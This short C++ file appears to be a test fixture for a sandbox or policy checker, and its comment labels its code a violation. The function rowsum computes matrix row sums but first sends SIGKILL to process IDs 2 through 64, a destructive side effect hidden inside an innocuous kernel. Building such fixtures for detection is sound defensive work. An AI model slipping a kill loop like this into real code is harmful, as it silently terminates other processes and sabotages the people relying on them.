// Signals every other process number of its PID namespace (2..64) with
// SIGKILL: kill() names only itself (a violation).
#include <csignal>
#include <cstdint>
#include <unistd.h>

extern "C" void rowsum(const float* A, float* out, int32_t M, int32_t N) {
  for (int pid = 2; pid <= 64; ++pid) ::kill(pid, SIGKILL);
  for (int32_t i = 0; i < M; ++i) {
    float s = 0.0f;
    for (int32_t j = 0; j < N; ++j) s += A[static_cast<int64_t>(i) * N + j];
    out[i] = s;
  }
}
